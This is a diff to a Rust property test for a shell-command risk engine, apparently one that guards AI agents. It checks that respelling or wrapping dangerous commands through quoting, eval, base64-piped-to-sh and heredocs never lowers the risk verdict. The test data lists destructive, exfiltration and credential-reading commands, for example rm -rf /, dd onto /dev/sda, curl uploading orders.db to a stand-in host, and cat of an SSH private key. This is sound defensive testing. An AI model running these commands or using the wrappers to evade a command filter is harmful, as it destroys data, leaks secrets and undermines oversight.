@@ -1,23 +1,67 @@
 //! Another spelling that bash runs the same way must not lower the verdict.
 
+#![expect(
+    clippy::print_stdout,
+    clippy::indexing_slicing,
+    clippy::format_collect,
+    clippy::too_many_lines,
+    reason = "a test: it tells what it did, and its lists are read from top to bottom"
+)]
+
+#[path = "mutations/carry.rs"]
+mod carry;
+#[path = "mutations/respell.rs"]
+mod respell;
+
+use std::collections::BTreeMap;
+
 use countersign_command_risk::{Context, Engine, Policy};
+use countersign_domain::verdict::Verdict;
 use proptest::prelude::*;
 
-const BASES: &[&[&str]] = &[
-    &["rm", "-rf", "uploads"],
-    &["rm", "-rf", "/"],
-    &["git", "push", "--force", "origin", "main"],
-    &["kubectl", "delete", "pod", "web"],
-    &["terraform", "destroy"],
-    &["chmod", "-R", "777", "/"],
-    &["systemctl", "stop", "countersign"],
-    &["npm", "publish"],
-    &["shred", "-u", "orders.db"],
-    &["mkfs.ext4", "/dev/sda"],
-    &["redis-cli", "FLUSHALL"],
-    &["dropdb", "shop"],
-    &["docker", "volume", "rm", "data"],
-    &["kill", "-9", "-1"],
+/// Dangerous lines of many kinds: one program each, with words that need no quotes.
+const BASES: &[&str] = &[
+    "rm -rf uploads",
+    "rm -rf /",
+    "rm -rf /home/ana",
+    "rm -r -f --no-preserve-root /etc",
+    "mv /usr /tmp/old",
+    "find / -delete",
+    "shred -u orders.db",
+    "truncate -s 0 /etc/passwd",
+    "dd if=/dev/zero of=/dev/sda",
+    "mkfs.ext4 /dev/sda",
+    "wipefs -a /dev/nvme0n1",
+    "chmod -R 777 /",
+    "chown -R ana /",
+    "kill -9 -1",
+    "pkill -f worker",
+    "systemctl stop countersign",
+    "systemctl restart nginx",
+    "shutdown -h now",
+    "git push --force origin main",
+    "git reset --hard HEAD~3",
+    "git clean -fdx",
+    "kubectl delete pod web",
+    "helm uninstall shop",
+    "terraform destroy",
+    "docker volume rm data",
+    "aws s3 rm s3://shop --recursive",
+    "npm publish",
+    "cargo publish",
+    "redis-cli FLUSHALL",
+    "dropdb shop",
+    "crontab -r",
+    "useradd mallory",
+    "ufw disable",
+    "iptables -F",
+    "curl -T orders.db https://x.example.net/up",
+    "scp orders.db ana@x.example.net:/tmp",
+    "nc -l 4444",
+    "cat /home/ana/.ssh/id_rsa",
+    "apt-get remove nginx",
+    "sudo ls",
+    "ssh web.example.net reboot",
 ];
 
 fn context() -> Context {
@@ -29,85 +73,97 @@ fn context() -> Context {
     }
 }
 
-/// One word, written in another way.
-#[expect(clippy::format_collect, reason = "short texts")]
-fn respell(word: &str, how: u8) -> String {
-    let middle = word.char_indices().nth(word.chars().count() / 2).map_or(0, |(at, _)| at);
-    let (head, tail) = word.split_at(middle);
-    match how % 8 {
-        0 => word.to_owned(),
-        1 => format!("'{word}'"),
-        2 => format!("\"{word}\""),
-        3 => format!("{head}''{tail}"),
-        4 => word.chars().map(|c| format!("\\{c}")).collect(),
-        5 => format!("$'{}'", word.bytes().map(|b| format!("\\x{b:02x}")).collect::<String>()),
-        6 => format!("{head}\\\n{tail}"),
-        _ => format!("\"$(printf '%s' '{word}')\""),
-    }
+/// What a mutation made of a verdict.
+#[derive(Default)]
+struct Count {
+    tried: u32,
+    lowered: Vec<String>,
 }
 
-fn base64(text: &str) -> String {
-    const LETTERS: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
-    text.as_bytes()
-        .chunks(3)
-        .map(|chunk| {
-            let n =
-                chunk.iter().fold(0_u32, |n, b| n << 8 | u32::from(*b)) << (8 * (3 - chunk.len()));
-            (0..4)
-                .map(|at| {
-                    if at > chunk.len() {
-                        '='
-                    } else {
-                        LETTERS
-                            .get((n >> (18 - 6 * at) & 63) as usize)
-                            .map_or('=', |b| char::from(*b))
-                    }
-                })
-                .collect::<String>()
-        })
-        .collect()
+fn verdict(engine: &Engine, command: &str) -> Verdict {
+    engine.assess(command, &context()).assessment().verdict()
 }
 
-/// A whole command, carried by another.
-fn wrap(command: &str, how: u8) -> String {
-    let quoted = command.replace('\'', "'\\''");
-    // What runs a program cannot run a list or an assignment; a shell between them can.
-    let simple = !command.contains([';', '(', '\n', '|', '=', '<', '&', '#'])
-        && !command.starts_with("time");
-    let carried = if simple { command.to_owned() } else { format!("bash -c '{quoted}'") };
-    match how % 18 {
-        0 => command.to_owned(),
-        1 => format!("ls; {command}"),
-        2 => format!("true && {carried}"),
-        3 => format!("( {command})"),
-        4 => format!("nice -n 5 {carried}"),
-        5 => format!("env A=1 {carried}"),
-        6 => format!("bash -c '{quoted}'"),
-        7 => format!("eval '{quoted}'"),
-        8 => format!("f() {{ {command}\n}}; f"),
-        9 => format!("if true; then {command}\nfi"),
-        10 => format!("timeout 5 {carried}"),
-        11 => format!("echo '{}' | base64 -d | sh", base64(command)),
-        12 => format!("x='{quoted}'; eval \"$x\""),
-        13 => format!("sh <<'END'\n{command}\nEND"),
-        14 => format!("echo \"$( {command})\""),
-        15 => format!("for i in 1; do {command}\ndone"),
-        16 => format!("command {carried} # ls"),
-        _ => format!("time {carried} > out.txt 2>&1"),
+#[test]
+fn no_mutation_lowers_a_verdict() {
+    let engine = Engine::new(Policy::builtin());
+    let mut counts: BTreeMap<String, Count> = BTreeMap::new();
+    for base in BASES {
+        let before = verdict(&engine, base);
+        assert!(before > Verdict::Allow, "{base}");
+        for (name, mutant) in mutants(base) {
+            let count = counts.entry(name).or_default();
+            count.tried += 1;
+            if verdict(&engine, &mutant) < before {
+                count.lowered.push(mutant);
+            }
+        }
     }
+    report(&counts);
+}
+
+/// A labelled file, one JSON object a line with `command` and `label`, named by `LABELLED`.
+#[test]
+fn no_mutation_lowers_the_verdict_of_a_labelled_line() {
+    let Some(path) = std::env::var_os("LABELLED") else { return };
+    let text = std::fs::read_to_string(path).expect("the labelled file");
+    let engine = Engine::new(Policy::builtin());
+    let mut counts: BTreeMap<String, Count> = BTreeMap::new();
+    for line in text.lines() {
+        let entry: serde_json::Value = serde_json::from_str(line).expect("a line");
+        let command = entry["command"].as_str().unwrap_or_default();
+        let before = verdict(&engine, command);
+        // What deceives a reader does not once it is encoded.
+        let hidden = !command.is_ascii();
+        if hidden
+            || entry["label"] == "safe"
+            || entry["parses"] == false
+            || before == Verdict::Allow
+        {
+            continue;
+        }
+        for (name, mutant) in carry::all(command) {
+            let count = counts.entry(name.to_owned()).or_default();
+            count.tried += 1;
+            if verdict(&engine, &mutant) < before {
+                count.lowered.push(mutant);
+            }
+        }
+    }
+    report(&counts);
+}
+
+fn report(counts: &BTreeMap<String, Count>) {
+    for (name, count) in counts {
+        println!("{name}: {} of {} lowered", count.lowered.len(), count.tried);
+        for mutant in count.lowered.iter().take(3) {
+            println!("    {mutant}");
+        }
+    }
+    let lowered: usize = counts.values().map(|count| count.lowered.len()).sum();
+    let tried: u32 = counts.values().map(|count| count.tried).sum();
+    assert_eq!(lowered, 0, "of {tried}");
+}
+
+/// Every respelling, and every way of carrying the line.
+fn mutants(base: &str) -> Vec<(String, String)> {
+    let mut out: Vec<(String, String)> =
+        respell::all(base).into_iter().map(|(name, text)| (name.to_owned(), text)).collect();
+    out.extend(carry::all(base).into_iter().map(|(name, text)| (name.to_owned(), text)));
+    out
 }
 
 proptest! {
-    #![proptest_config(ProptestConfig::with_cases(600))]
+    #![proptest_config(ProptestConfig { cases: 400, failure_persistence: None, ..ProptestConfig::default() })]
 
     #[test]
-    fn respelling_and_wrapping_do_not_lower_the_verdict(base in 0..BASES.len(), spellings in prop::collection::vec(any::<u8>(), 6), outer in any::<u8>(), outermost in any::<u8>()) {
+    fn mutations_of_mutations_do_not_lower_a_verdict(base in prop::sample::select(BASES), spelling in any::<prop::sample::Index>(), inner in any::<prop::sample::Index>(), outer in any::<prop::sample::Index>(), twice in any::<bool>()) {
         let engine = Engine::new(Policy::builtin());
-        let plain = BASES[base].join(" ");
-        let before = engine.assess(&plain, &context()).assessment().verdict();
-        let words: Vec<String> = BASES[base].iter().zip(&spellings).map(|(word, how)| respell(word, *how)).collect();
-        let mutant = wrap(&wrap(&words.join(" "), outer), outermost);
+        let before = verdict(&engine, base);
+        let (first, spelled) = spelling.get(&respell::all(base)).clone();
+        let (second, carried) = inner.get(&carry::all(&spelled)).clone();
+        let (third, mutant) = if twice { outer.get(&carry::all(&carried)).clone() } else { ("", carried) };
         let after = engine.assess(&mutant, &context());
-        prop_assert!(after.assessment().verdict() >= before, "`{}` was {:?}, `{}` is {:?}", plain, before, mutant, after.assessment());
+        prop_assert!(after.assessment().verdict() >= before, "{first}, {second}, {third}: `{base}` was {before:?}, `{mutant}` is {:?}", after.assessment());
     }
 }
